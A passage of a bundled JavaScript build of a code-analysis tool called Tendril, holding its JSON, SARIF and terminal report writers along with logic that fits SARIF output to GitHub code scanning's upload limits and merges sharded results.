/** A plain JSON report for scripts: findings with their severity label, notifications, counts, gate. */
function formatJson(outcome) {
    return (JSON.stringify({
        tool: 'tendril',
        version: version_1.VERSION,
        files: outcome.files,
        findings: outcome.findings.map((f) => ({
            rule: f.ruleId,
            severity: (0, labels_1.severityLabel)(f),
            path: f.path,
            line: f.line,
            column: f.column,
            endLine: f.endLine,
            endColumn: f.endColumn,
            message: f.message,
            fingerprint: f.lineHash,
            ...(f.baselineState ? { baselineState: f.baselineState } : {}),
            ...(f.suppressed !== undefined ? { suppressed: f.suppressed } : {}),
        })),
        notifications: outcome.notifications,
        counts: outcome.counts,
        ...(outcome.baseline ? { baseline: outcome.baseline, newCounts: outcome.newCounts } : {}),
        gate: outcome.gate,
    }, null, 2) + '\n');
}


/***/ }),

/***/ 7923:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.RULE_META = void 0;
exports.severityLabel = severityLabel;
exports.plural = plural;
const rules_1 = __nccwpck_require__(5755);
const severity_1 = __nccwpck_require__(2640);
exports.RULE_META = new Map(rules_1.ALL_RULES.map((rule) => [rule.meta.id, rule.meta]));
/** What a person reads as a finding's severity: the GitHub band for security, `note` otherwise. */
function severityLabel(finding) {
    const meta = exports.RULE_META.get(finding.ruleId);
    return meta?.kind === 'security' ? (0, severity_1.bandOf)(meta.securitySeverity ?? 0) : 'note';
}
function plural(n, word) {
    return `${n} ${word}${n === 1 ? '' : 's'}`;
}


/***/ }),

/***/ 5356:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.GITHUB_LIMITS = exports.LIMIT_NOTIFICATION_ID = exports.MAX_TAGS_PER_RULE = exports.MAX_LOCATIONS_PER_RESULT = exports.MAX_GZIPPED_BYTES = exports.MAX_RESULTS_PER_RUN = void 0;
exports.serialiseSarif = serialiseSarif;
exports.count = count;
exports.rankResults = rankResults;
exports.capTags = capTags;
exports.selectResults = selectResults;
exports.applySarifLimits = applySarifLimits;
const zlib_1 = __nccwpck_require__(3106);
/**
 * GitHub code scanning's limits on uploaded SARIF, and a pure function that makes a SARIF log fit
 * them. GitHub rejects a whole upload past a hard limit, so the writer keeps the highest-ranked
 * results and says what it left out (a `sarif-limit` tool execution notification in the run
 * concerned, and a line in the job summary).
 *
 * The limits, from GitHub's documentation:
 * - "SARIF support for code scanning" / "SARIF results exceed one or more limits"
 *   (docs.github.com/en/code-security/code-scanning/troubleshooting-sarif-uploads/results-exceed-limit):
 *   results per run 25,000; locations per result 1,000; tags per rule 20 (and runs per file 20,
 *   rules per run 25,000, thread flow locations per result 10,000, which Tendril never approaches).
 * - "Uploading a SARIF file to GitHub" / "SARIF results file is too large"
 *   (docs.github.com/en/code-security/code-scanning/troubleshooting-sarif-uploads/file-too-large):
 *   "For each gzip-compressed SARIF file, SARIF upload supports a maximum size of 10 MB". Read as
 *   10,000,000 bytes, the smaller of the two readings of "10 MB".
 */
exports.MAX_RESULTS_PER_RUN = 25_000;
exports.MAX_GZIPPED_BYTES = 10_000_000;
exports.MAX_LOCATIONS_PER_RESULT = 1_000;
exports.MAX_TAGS_PER_RULE = 20;
/** `descriptor.id` of the notifications that say what a limit dropped. */
exports.LIMIT_NOTIFICATION_ID = 'sarif-limit';
exports.GITHUB_LIMITS = Object.freeze({
    resultsPerRun: exports.MAX_RESULTS_PER_RUN,
    gzippedBytes: exports.MAX_GZIPPED_BYTES,
    locationsPerResult: exports.MAX_LOCATIONS_PER_RESULT,
    tagsPerRule: exports.MAX_TAGS_PER_RULE,
});
/** How Tendril writes SARIF: two-space indentation and a final newline. */
function serialiseSarif(log) {
    return JSON.stringify(log, null, 2) + '\n';
}
/** `25000` -> `25,000`, independent of the locale. */
function count(n) {
    return String(n).replace(/\B(?=(\d{3})+(?!\d))/g, ',');
}
function plural(n, word) {
    return `${count(n)} ${word}${n === 1 ? '' : 's'}`;
}
const LEVEL_RANK = { error: 3, warning: 2, note: 1, none: 0 };
const PRECISION_RANK = { 'very-high': 4, high: 3, medium: 2, low: 1 };
const PROBLEM_SEVERITY_RANK = { error: 3, warning: 2, recommendation: 1 };
function ruleOf(run, result) {
    const rules = run.tool?.driver?.rules ?? [];
    const byIndex = typeof result.ruleIndex === 'number' ? rules[result.ruleIndex] : undefined;
    if (byIndex && (result.ruleId === undefined || byIndex.id === result.ruleId))
        return byIndex;
    return rules.find((rule) => rule.id === result.ruleId);
}
function rank(run, runIndex, result, index) {
    const rule = ruleOf(run, result) ?? {};
    const properties = rule.properties ?? {};
    const levelName = String(result.level ?? rule.defaultConfiguration?.level ?? 'warning');
    const physical = result.locations?.[0]?.physicalLocation ?? {};
    const region = physical.region ?? {};
    const severity = Number.parseFloat(String(properties['security-severity'] ?? '0'));
    return {
        run: runIndex,
        index,
        // A result suppressed in the source (include-suppressed) shows as dismissed: an open one weighs more.
        open: Array.isArray(result.suppressions) && result.suppressions.length > 0 ? 0 : 1,
        level: LEVEL_RANK[levelName] ?? 0,
        securitySeverity: Number.isFinite(severity) ? severity : 0,
        problemSeverity: PROBLEM_SEVERITY_RANK[String(properties['problem.severity'])] ?? 0,
        precision: PRECISION_RANK[String(properties.precision)] ?? 0,
        path: String(physical.artifactLocation?.uri ?? ''),
        startLine: Number(region.startLine ?? 0),
        startColumn: Number(region.startColumn ?? 0),
        ruleId: String(result.ruleId ?? rule.id ?? ''),
        endLine: Number(region.endLine ?? 0),
        endColumn: Number(region.endColumn ?? 0),
        message: String(result.message?.text ?? ''),
        levelName,
    };
}
function cmp(a, b) {
    return a < b ? -1 : a > b ? 1 : 0;
}
/**
 * Highest-ranked first: open before suppressed, then level (error > warning > note), then
 * security-severity, then `problem.severity` (maintainability), then precision; ties by path,
 * line, column, rule, end, message, then run and position, so the order is total.
 */
function compareRank(a, b) {
    return (b.open - a.open ||
        b.level - a.level ||
        b.securitySeverity - a.securitySeverity ||
        b.problemSeverity - a.problemSeverity ||
        b.precision - a.precision ||
        cmp(a.path, b.path) ||
        a.startLine - b.startLine ||
        a.startColumn - b.startColumn ||
        cmp(a.ruleId, b.ruleId) ||
        a.endLine - b.endLine ||
        a.endColumn - b.endColumn ||
        cmp(a.message, b.message) ||
        a.run - b.run ||
        a.index - b.index);
}
/** The results of one run, highest-ranked first (what the limits keep first). */
function rankResults(run) {
    const results = run.results ?? [];
    return results
        .map((result, i) => rank(run, 0, result, i))
        .sort(compareRank)
        .map((r) => results[r.index]);
}
/** The tags a limit keeps first: the kind tags, then CWE tags; then the others in their order. */
function tagPriority(tag) {
    if (tag === 'security' || tag === 'quality' || tag === 'maintainability')
        return 0;
    if (/^external\/cwe\//i.test(tag))
        return 1;
    return 2;
}
/** At most `max` tags, the most important kept, in their original order. */
function capTags(tags, max) {
    if (tags.length <= max)
        return [...tags];
    const keep = new Set(tags
        .map((tag, i) => ({ tag, i }))
        .sort((a, b) => tagPriority(a.tag) - tagPriority(b.tag) || a.i - b.i)
        .slice(0, max)
        .map((x) => x.i));
    return tags.filter((_, i) => keep.has(i));
}
function tallyLevels(dropped) {
    const tally = new Map();
    for (const r of dropped)
        tally.set(r.levelName, (tally.get(r.levelName) ?? 0) + 1);
    return tally;
}
function breakdown(tally) {
    return ['error', 'warning', 'note', 'none']
        .filter((level) => tally.has(level))
        .map((level) => `${level}: ${count(tally.get(level))}`)
        .join(', ');
}
/**
 * For a writer with more results for a run than the limit keeps: which of the `total` results
 * (built one at a time by `resultAt`, ranked, and let go) the limit keeps, in their order, ranked
 * exactly as `applySarifLimits` ranks a run's results. The writer builds only those and passes the
 * `PreCut` to `applySarifLimits`, so the output is the same bytes without every result of a large
 * run held in memory at once. Undefined when the run is within the limit.
 */
function selectResults(run, runIndex, total, resultAt, limits = exports.GITHUB_LIMITS) {
    if (total <= limits.resultsPerRun)
        return undefined;
    const ranked = [];
    for (let i = 0; i < total; i++)
        ranked.push(rank(run, runIndex, resultAt(i), i));
    const { keep, dropped } = cutByRank(ranked, limits.resultsPerRun);
    return { keep, cut: { total, droppedLevels: tallyLevels(dropped) } };
}
/** The `limit` highest-ranked of a run's ranked results (`index` = position): their positions in order, and the rest. */
function cutByRank(ranked, limit) {
    const order = [...ranked].sort(compareRank);
    const keep = order
        .slice(0, limit)
        .map((r) => r.index)
        .sort((a, b) => a - b);
    return { keep, dropped: order.slice(limit) };
}
function planRun(run, runIndex, limits, preCut) {
    const category = String(run.automationDetails?.id ?? '');
    const drops = [];
    // Tags per rule.
    let rules;
    const driverRules = run.tool?.driver?.rules;
    if (driverRules) {
        let rulesCut = 0;
        let tagsCut = 0;
        const capped = driverRules.map((rule) => {
            const tags = rule.properties?.tags;
            if (!Array.isArray(tags) || tags.length <= limits.tagsPerRule)
                return rule;
            rulesCut++;
            tagsCut += tags.length - limits.tagsPerRule;
            return { ...rule, properties: { ...rule.properties, tags: capTags(tags, limits.tagsPerRule) } };
        });
        if (rulesCut > 0) {
            rules = capped;
            drops.push({
                category,
                limit: 'tags',
                dropped: tagsCut,
                of: rulesCut,
                message: `GitHub accepts at most ${count(limits.tagsPerRule)} tags per rule: dropped ${plural(tagsCut, 'tag')} from ${plural(rulesCut, 'rule')} ` +
                    '(the security, quality and maintainability tags and CWE tags are kept first).',
                short: `${plural(tagsCut, 'tag')} dropped from ${plural(rulesCut, 'rule')} (at most ${count(limits.tagsPerRule)} per rule)`,
            });
        }
    }
    // Locations per result.
    let results = run.results ?? [];
    let resultsCut = 0;
    let locationsCut = 0;
    const max = limits.locationsPerResult;
    if (results.some((r) => (r.locations?.length ?? 0) > max || (r.relatedLocations?.length ?? 0) > max)) {
        results = results.map((result) => {
            const over = (key) => Math.max(0, (Array.isArray(result[key]) ? result[key].length : 0) - max);
            const cut = over('locations') + over('relatedLocations');
            if (cut === 0)
                return result;
            resultsCut++;
            locationsCut += cut;
            const copy = { ...result };
            if (over('locations') > 0)
                copy.locations = result.locations.slice(0, max);
            if (over('relatedLocations') > 0)
                copy.relatedLocations = result.relatedLocations.slice(0, max);
            return copy;
        });
        drops.push({
            category,
            limit: 'locations',
            dropped: locationsCut,
            of: resultsCut,
            message: `GitHub accepts at most ${count(max)} locations per result: dropped ${plural(locationsCut, 'location')} ` +
                `past the first ${count(max)} (locations, relatedLocations) of ${plural(resultsCut, 'result')}.`,
            short: `${plural(locationsCut, 'location')} dropped from ${plural(resultsCut, 'result')} (at most ${count(max)} per result)`,
        });
    }
    // Results per run: the highest-ranked kept, in their original order.
    let total = results.length;
    let ranked = results.map((result, i) => rank(run, runIndex, result, i));
    const resultsDrop = (dropped, levels) => ({
        category,
        limit: 'results',
        dropped,
        of: total,
        message: `GitHub accepts at most ${count(limits.resultsPerRun)} results per run: kept the ${count(limits.resultsPerRun)} highest-ranked ` +
            `of ${count(total)} results and dropped ${count(dropped)} (${breakdown(levels)}).`,
        short: `${count(dropped)} of ${plural(total, 'result')} dropped (at most ${count(limits.resultsPerRun)} per run)`,
    });
    if (preCut) {
        // The writer already kept only the highest-ranked (selectResults).
        total = preCut.total;
        let dropped = 0;
        for (const n of preCut.droppedLevels.values())
            dropped += n;
        drops.push(resultsDrop(dropped, preCut.droppedLevels));
    }
    else if (total > limits.resultsPerRun) {
        const { keep, dropped } = cutByRank(ranked, limits.resultsPerRun);
        results = keep.map((i) => results[i]);
        ranked = keep.map((i, j) => ({ ...ranked[i], index: j }));
        drops.push(resultsDrop(dropped.length, tallyLevels(dropped)));
    }
    return { run, category, rules, results, ranked, drops, total };
}
function sizeDrop(plan, dropped, limits) {
    const left = plan.results.length;
    return {
        category: plan.category,
        limit: 'size',
        dropped: dropped.length,
        of: left,
        message: `GitHub accepts a SARIF file of at most ${count(limits.gzippedBytes)} bytes gzipped: dropped the ${count(dropped.length)} ` +
            `lowest-ranked of the ${plural(left, 'result')} ${left === plan.total ? 'of this run' : 'left in this run'} (${breakdown(tallyLevels(dropped))}).`,
        short: `${count(dropped.length)} of ${plural(left, 'result')} dropped (gzipped file at most ${count(limits.gzippedBytes)} bytes)`,
    };
}
function notification(drop) {
    return { level: 'warning', message: { text: drop.message }, descriptor: { id: exports.LIMIT_NOTIFICATION_ID } };
}
/** The run with its capped rules, kept results and a notification per drop. */
function assemble(plan, keep, drops) {
    const run = { ...plan.run };
    if (plan.rules)
        run.tool = { ...run.tool, driver: { ...run.tool.driver, rules: plan.rules } };
    if (drops.length > 0) {
        const invocations = Array.isArray(run.invocations) && run.invocations.length > 0 ? run.invocations : [{ executionSuccessful: true }];
        const [first, ...rest] = invocations;
        run.invocations = [{ ...first, toolExecutionNotifications: [...(first.toolExecutionNotifications ?? []), ...drops.map(notification)] }, ...rest];
    }
    if (plan.run.results !== undefined || plan.results.length > 0)
        run.results = plan.results.filter((_, i) => keep(plan.ranked[i]));
    return run;
}
/**
 * The gzipped size of `bytes` as far as `limit` needs it: -1 when even stored blocks would fit,
 * the size at zlib's fastest level (1) when that fits, else the size at zlib's default level (6),
 * the one GitHub's upload tools use. Level 6 searches for matches harder and compresses SARIF's
 * repetitive JSON better than level 1 (the standard library's 26.5 MB log: 1.58 MB against
 * 1.91 MB), so a log within the limit at level 1 is taken to be within it at level 6; level 1
 * takes less than half the time (90 against 215 ms on that log).
 */
function gzippedSize(bytes, limit) {
    // Deflate never grows data by more than 5 bytes per 16 KiB block, plus the gzip header and trailer.
    if (bytes.length + Math.ceil(bytes.length / 1000) + 64 <= limit)
        return -1;
    const fast = (0, zlib_1.gzipSync)(bytes, { level: 1 }).length;
    return fast <= limit ? fast : (0, zlib_1.gzipSync)(bytes).length;
}
function serialised(log, serialise, drops) {
    const text = serialise(log);
    return { log, text, bytes: Buffer.from(text, 'utf8'), drops };
}
/**
 * `log` within `limits`: tags per rule capped (the kind and CWE tags kept), locations per result
 * truncated, the highest-ranked results per run kept, then, while the gzipped serialisation is over
 * the size limit, the lowest-ranked results of the whole log dropped in chunks. Pure and
 * deterministic: `log` is not modified, and when it is within every limit it is returned as it is,
 * with `text` exactly `serialise(log)`.
 */
function applySarifLimits(log, limits = exports.GITHUB_LIMITS, serialise = serialiseSarif, preCuts = []) {
    const runs = Array.isArray(log.runs) ? log.runs : [];
    const plans = runs.map((run, i) => planRun(run, i, limits, preCuts[i]));
    const limit = limits.gzippedBytes;
    // Best first: when the file is too large, results go from the end of this order.
    const order = plans.flatMap((p) => p.ranked).sort(compareRank);
    const build = (keepCount) => {
        const gone = order.slice(keepCount);
        const goneSet = new Set(gone);
        const drops = [];
        const built = plans.map((plan, i) => {
            const runDrops = [...plan.drops];
            const mine = gone.filter((r) => r.run === i);
            if (mine.length > 0)
                runDrops.push(sizeDrop(plan, mine, limits));
            drops.push(...runDrops);
            return assemble(plan, (r) => !goneSet.has(r), runDrops);
        });
        return serialised({ ...log, runs: built }, serialise, drops);
    };
    let keep = order.length;
    let current = plans.some((p) => p.drops.length > 0) ? build(keep) : serialised(log, serialise, []);
    let size = gzippedSize(current.bytes, limit);
    if (size <= limit)
        return current;
    // What dropping a result is expected to save: its compact JSON length, times the gzip ratio.
    const weight = order.map((r) => Buffer.byteLength(JSON.stringify(plans[r.run].results[r.index])));
    let kept = weight.reduce((sum, w) => sum + w, 0);
    let previous;
    while (size > limit && keep > 0) {
        // Gzipped bytes per byte of result: what the previous chunk saved, at first the whole file's ratio.
        const rate = previous && previous.size > size && previous.kept > kept ? (previous.size - size) / (previous.kept - kept) : size / Math.max(kept, 1);
        const target = ((size - limit) / rate) * 1.02;
        previous = { size, kept };
        // The next chunk: the lowest-ranked results worth `target` bytes, and at least 0.1% of those left.
        const floor = keep - Math.max(1, Math.ceil(keep / 1000));
        let freed = 0;
        while (keep > 0 && (freed < target || keep > floor))
            freed += weight[--keep];
        kept -= freed;
        current = build(keep);
        size = gzippedSize(current.bytes, limit);
    }
    return current;
}


/***/ }),

/***/ 3278:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.mergeSarif = mergeSarif;
const limits_1 = __nccwpck_require__(5356);
const errors_1 = __nccwpck_require__(3916);
function decodeUri(uri) {
    return uri.split('/').map(decodeURIComponent).join('/');
}
function cmp(a, b) {
    return a < b ? -1 : a > b ? 1 : 0;
}
function location(x) {
    const physical = x.locations?.[0]?.physicalLocation ?? {};
    return { path: decodeUri(physical.artifactLocation?.uri ?? ''), region: physical.region ?? {} };
}
/** The order of run.ts's compareFindings, read back from SARIF results. */
function compareResults(a, b) {
    const la = location(a);
    const lb = location(b);
    return (cmp(la.path, lb.path) ||
        la.region.startLine - lb.region.startLine ||
        la.region.startColumn - lb.region.startColumn ||
        cmp(a.ruleId, b.ruleId) ||
        la.region.endLine - lb.region.endLine ||
        la.region.endColumn - lb.region.endColumn ||
        cmp(a.message?.text ?? '', b.message?.text ?? ''));
}
/** The order of run.ts's compareNotifications. */
function compareNotifications(a, b) {
    const la = location(a);
    const lb = location(b);
    return (cmp(la.path, lb.path) ||
        (la.region.startLine ?? 0) - (lb.region.startLine ?? 0) ||
        (la.region.startColumn ?? 0) - (lb.region.startColumn ?? 0) ||
        cmp(a.descriptor?.id ?? '', b.descriptor?.id ?? '') ||
        cmp(a.message?.text ?? '', b.message?.text ?? ''));
}
function mergeSarif(inputs) {
    if (inputs.length === 0)
        throw new errors_1.UsageError('merge: no SARIF files given');
    const logs = inputs.map(({ name, text }) => {
        let log;
        try {
            log = JSON.parse(text);
        }
        catch (error) {
            throw new errors_1.UsageError(`merge: ${name} is not valid JSON (${error instanceof Error ? error.message : String(error)})`);
        }
        if (log.version !== '2.1.0' || !Array.isArray(log.runs))
            throw new errors_1.UsageError(`merge: ${name} is not a SARIF 2.1.0 log`);
        return { name, log };
    });
    const merged = new Map();
    for (const { name, log } of logs) {
        for (const run of log.runs) {
            const category = String(run.automationDetails?.id ?? '');
            if (run.tool?.driver?.name !== 'Tendril')
                throw new errors_1.UsageError(`merge: ${name} has a run of another tool (${run.tool?.driver?.name})`);
            const driver = JSON.stringify(run.tool.driver);
            const seen = merged.get(category);
            if (!seen) {
                merged.set(category, { run: structuredClone(run), driver, from: name });
                continue;
            }
            if (seen.driver !== driver) {
                throw new errors_1.UsageError(`merge: ${name} and ${seen.from} ran different rules or Tendril versions for category '${category}'; shards must share one configuration`);
            }
            seen.run.results.push(...(run.results ?? []));
            const into = seen.run.invocations[0];
            const from = run.invocations?.[0] ?? {};
            into.executionSuccessful = into.executionSuccessful && from.executionSuccessful !== false;
            into.toolExecutionNotifications.push(...(from.toolExecutionNotifications ?? []));
        }
    }
    const runs = [...merged.values()].map(({ run }) => {
        run.results.sort(compareResults);
        run.invocations[0].toolExecutionNotifications.sort(compareNotifications);
        return run;
    });
    // The merged log must fit GitHub's limits too (each shard's file does, their sum may not).
    return (0, limits_1.applySarifLimits)({ ...logs[0].log, runs }).text;
}


/***/ }),

/***/ 643:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.SRCROOT = exports.CATEGORIES = void 0;
exports.encodeUri = encodeUri;
exports.ruleDescriptor = ruleDescriptor;
exports.writeSarif = writeSarif;
exports.sarifLimitDrops = sarifLimitDrops;
exports.buildSarif = buildSarif;
exports.formatSarif = formatSarif;
const url_1 = __nccwpck_require__(7016);
const rules_1 = __nccwpck_require__(5755);
const api_1 = __nccwpck_require__(6750);
const version_1 = __nccwpck_require__(311);
const limits_1 = __nccwpck_require__(5356);
/**
 * The SARIF 2.1.0 writer, shaped for GitHub code scanning: one run per kind, each with its own
 * category (`automationDetails.id`), because GitHub rejects two runs of one tool with one category.
 * Security rules carry `security-severity` and a CWE tag; maintainability rules never do, are notes,
 * and are tagged `quality` and `maintainability`.
 */
exports.CATEGORIES = {
    security: 'tendril/security/',
    maintainability: 'tendril/maintainability/',
};
exports.SRCROOT = '%SRCROOT%';
const SCHEMA = 'https://json.schemastore.org/sarif-2.1.0.json';
/** Repository-relative path -> URI reference: each segment percent-encoded (`a b/c#d.py` -> `a%20b/c%23d.py`). */
function encodeUri(relPath) {
    return relPath.split('/').map(encodeURIComponent).join('/');
}
/** Markdown help as plain text, for `help.text`: code fences and heading marks dropped. */
function markdownToText(markdown) {
    return markdown
        .split('\n')
        .filter((line) => !line.startsWith('```'))
        .map((line) => line.replace(/^#+\s*/, ''))
        .join('\n')
        .trim();
}
function cweTag(cwe) {
    return `external/cwe/cwe-${String(cwe).padStart(3, '0')}`;
}
function ruleDescriptor(meta) {
    const properties = meta.kind === 'security'
        ? {
            tags: ['security', ...(meta.cwe ?? []).map(cweTag), meta.category],
            kind: 'problem',
            precision: meta.precision,
            'security-severity': (meta.securitySeverity ?? 0).toFixed(1),
            aliases: meta.aliases,
        }
        : {
            tags: ['quality', 'maintainability', meta.category],
            kind: 'problem',
            precision: meta.precision,
            'problem.severity': meta.problemSeverity ?? 'recommendation',
            aliases: meta.aliases,
        };
    return {
        id: meta.id,
        name: meta.name,
        shortDescription: { text: meta.shortDescription },
        fullDescription: { text: meta.fullDescription },
        defaultConfiguration: { level: (0, api_1.ruleLevel)(meta) },
        help: { text: markdownToText(meta.help), markdown: meta.help },
        properties,
    };
}
/** The last path encoded: findings come sorted by path, so most of a file's locations reuse it. */
let lastPath = '';
let lastUri = '';
function uriOf(path) {
    if (path !== lastPath) {
        lastUri = encodeUri(path);
        lastPath = path;
    }
    return lastUri;
}
function physicalLocation(path, region) {
    const location = { artifactLocation: { uri: uriOf(path), uriBaseId: exports.SRCROOT } };
    if (region)
        location.region = region;
    return location;
}
function resultOf(finding, meta, ruleIndex) {
    const result = {
        ruleId: meta.id,
        ruleIndex,
        level: (0, api_1.ruleLevel)(meta),
        message: { text: finding.message },
        locations: [
            {
                physicalLocation: physicalLocation(finding.path, {
                    startLine: finding.line,
                    startColumn: finding.column,
                    endLine: finding.endLine,
                    endColumn: finding.endColumn,
                }),
            },
        ],
    };
    if (finding.lineHash)
        result.partialFingerprints = { primaryLocationLineHash: finding.lineHash };
    // Against a baseline: `new` or `unchanged`. Fixed findings are not written as `absent` results:
    // code scanning would show them as alerts at lines that no longer hold them (see docs/architecture.md).
    if (finding.baselineState)
        result.baselineState = finding.baselineState;
    // Only present with include-suppressed: GitHub shows an `inSource` suppressed result as dismissed.
    if (finding.suppressed !== undefined)
        result.suppressions = [{ kind: 'inSource', justification: finding.suppressed }];
    // The line-independent match key, so a later run can use this file as its baseline (baseline-sarif).
    if (finding.matchKey)
        result.properties = { 'tendril/matchKey': finding.matchKey };
    return result;
}
function notificationOf(n) {
    const region = n.line ? { startLine: n.line, ...(n.column ? { startColumn: n.column } : {}) } : undefined;
    return {
        level: n.level,
        message: { text: n.message },
        descriptor: { id: n.id },
        locations: [{ physicalLocation: physicalLocation(n.path, region) }],
    };
}
function docsOf(options) {
    if (options.docs)
        return options.docs;
    const repository = process.env.GITHUB_ACTION_REPOSITORY;
    const server = (process.env.GITHUB_SERVER_URL || 'https://github.com').replace(/\/$/, '');
    return repository && /^[\w.-]+\/[\w.-]+$/.test(repository) ? { informationUri: `${server}/${repository}` } : undefined;
}
function runOf(kind, rules, outcome, runIndex, limits, options) {
    const docs = docsOf(options);
    const index = new Map(rules.map((rule, i) => [rule.meta.id, i]));
    const findings = outcome.findings.filter((f) => index.has(f.ruleId));
    const build = (f) => resultOf(f, rules[index.get(f.ruleId)].meta, index.get(f.ruleId));
    const run = {
        tool: {
            driver: {
                name: 'Tendril',
                semanticVersion: version_1.VERSION,
                ...(docs ? { informationUri: docs.informationUri } : {}),
                rules: rules.map((rule) => ({ ...ruleDescriptor(rule.meta), ...(docs?.rules ? { helpUri: `${docs.rules}#${rule.meta.id}` } : {}) })),
            },
        },
        automationDetails: { id: exports.CATEGORIES[kind] + (options.categorySuffix ?? '') },
        originalUriBaseIds: { [exports.SRCROOT]: { uri: (0, url_1.pathToFileURL)(outcome.settings.root).href.replace(/\/?$/, '/') } },
        invocations: [
            {
                // An internal error means a file was not fully analysed by the tool's own fault (the run fails).
                executionSuccessful: !outcome.notifications.some((n) => n.id === 'internal-error'),
                toolExecutionNotifications: outcome.notifications.map(notificationOf),
            },
        ],
        columnKind: 'utf16CodeUnits',
        results: [],
    };
    // Past the results limit, only the results the limit keeps are built (a large tree has hundreds
    // of thousands of findings; holding all their SARIF objects at once set the run's memory peak).
    const selected = (0, limits_1.selectResults)(run, runIndex, findings.length, (i) => build(findings[i]), limits);
    run.results = selected ? selected.keep.map((i) => build(findings[i])) : findings.map(build);
    return { run, cut: selected?.cut };
}
/** The SARIF log for an outcome, before GitHub's limits are applied, but for the results past a run's limit, which are not built. */
function rawSarif(outcome, limits, options) {
    // Every rule that ran on some file: nearer configurations may enable rules the run's own does not.
    const enabled = new Set(outcome.rules ?? outcome.settings.rules);
    const runs = ['security', 'maintainability']
        .filter((kind) => !options.kinds || options.kinds.includes(kind))
        .map((kind) => ({ kind, rules: rules_1.ALL_RULES.filter((r) => r.meta.kind === kind && enabled.has(r)) }))
        .filter(({ rules }) => rules.length > 0)
        .map(({ kind, rules }, i) => runOf(kind, rules, outcome, i, limits, options));
    return { log: { $schema: SCHEMA, version: '2.1.0', runs: runs.map((r) => r.run) }, cuts: runs.map((r) => r.cut) };
}
/**
 * The SARIF log for an outcome within GitHub's upload limits (src/report/limits.ts), its bytes,
 * and what the limits dropped. A kind with no enabled rule gets no run (an empty run would tell
 * GitHub that every open alert of that category is fixed). Same outcome, same bytes; within the
 * limits, exactly the log as built.
 */
function writeSarif(outcome, limits = limits_1.GITHUB_LIMITS, options = {}) {
    const { log, cuts } = rawSarif(outcome, limits, options);
    return (0, limits_1.applySarifLimits)(log, limits, undefined, cuts);
}
/**
 * What GitHub's limits drop from the SARIF of an outcome (empty within the limits), for the job
 * summary when the caller did not keep the drops of the log it wrote (the action does).
 */
function sarifLimitDrops(outcome) {
    return writeSarif(outcome).drops;
}
/** The SARIF log for an outcome, as written (within GitHub's limits). */
function buildSarif(outcome) {
    return writeSarif(outcome).log;
}
function formatSarif(outcome) {
    return writeSarif(outcome).text;
}


/***/ }),

/***/ 5655:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.totalsLine = totalsLine;
exports.formatText = formatText;
const labels_1 = __nccwpck_require__(7923);
const COLOURS = {
    critical: '\x1b[1;31m',
    high: '\x1b[31m',
    medium: '\x1b[33m',
    low: '\x1b[36m',
    note: '\x1b[2m',
    bold: '\x1b[1m',
    reset: '\x1b[0m',
};
/** One-line totals, also used by the action's log. */
function totalsLine(outcome) {
    const { counts } = outcome;
    const bands = ['critical', 'high', 'medium', 'low']
        .filter((band) => counts.bySeverity[band] > 0)
        .map((band) => `${counts.bySeverity[band]} ${band}`);
    return (`${(0, labels_1.plural)(counts.security, 'security alert')}${bands.length ? ` (${bands.join(', ')})` : ''}, ` +
        `${(0, labels_1.plural)(counts.maintainability, 'maintainability note')} in ${(0, labels_1.plural)(outcome.files, 'file')} analysed`);
}
/**
 * The terminal report: findings grouped by file, one line each as `path:line:col  severity
 * rule-id  message` (editors and terminals make `path:line:col` clickable), then the totals and
 * the gate verdict. Colour only when asked (a TTY without NO_COLOR).
 */
function formatText(outcome, colour, options = {}) {
    const paint = (style, text) => (colour ? `${COLOURS[style]}${text}${COLOURS.reset}` : text);
    const lines = [];
    if (options.statistics) {
        // Like `ruff check --statistics`: count, rule, aliases; most frequent first.
        const byRule = new Map();
        for (const f of outcome.findings)
            if (f.suppressed === undefined)
                byRule.set(f.ruleId, (byRule.get(f.ruleId) ?? 0) + 1);
        const rows = [...byRule].sort((a, b) => b[1] - a[1] || (a[0] < b[0] ? -1 : 1));
        const width = Math.max(0, ...rows.map(([, n]) => String(n).length));
        for (const [ruleId, n] of rows) {
            const meta = labels_1.RULE_META.get(ruleId);
            lines.push(`${String(n).padStart(width)}  ${ruleId}${meta?.aliases.length ? ` (${meta.aliases.join(', ')})` : ''}`);
        }
        if (!options.quiet)
            lines.push(totalsLine(outcome));
        return lines.length ? lines.join('\n') + '\n' : '';
    }
    const idWidth = Math.max(0, ...outcome.findings.map((f) => f.ruleId.length));
    let current;
    for (const finding of outcome.findings) {
        if (finding.path !== current) {
            if (current !== undefined)
                lines.push('');
            current = finding.path;
            lines.push(paint('bold', finding.path));
        }
        const severity = (0, labels_1.severityLabel)(finding);
        lines.push(`  ${finding.path}:${finding.line}:${finding.column}  ${paint(severity, severity.padEnd(8))} ` +
            `${finding.ruleId.padEnd(idWidth)}  ${finding.message}${finding.baselineState === 'new' ? '  [new]' : ''}` +
            (finding.suppressed !== undefined ? paint('note', `  [suppressed: ${finding.suppressed}]`) : ''));
    }
    if (options.quiet)
        return lines.length ? lines.join('\n') + '\n' : '';
    if (lines.length)
        lines.push('');
    lines.push(totalsLine(outcome));
    if (outcome.baseline) {
        const b = outcome.baseline;
        lines.push(`Compared with ${b.ref}: ${b.new} new, ${b.unchanged} existing, ${b.fixed} fixed.`);
    }
    if (outcome.gate.failed) {
        for (const reason of outcome.gate.reasons)
            lines.push(paint('high', `Gate failed: ${reason}`));
    }
    return lines.join('\n') + '\n';
}


/***/ }),

/***/ 6009:
/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {


var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    var desc = Object.getOwnPropertyDescriptor(m, k);
    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
      desc = { enumerable: true, get: function() { return m[k]; } };
    }
    Object.defineProperty(o, k2, desc);
}) : (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    o[k2] = m[k];
}));
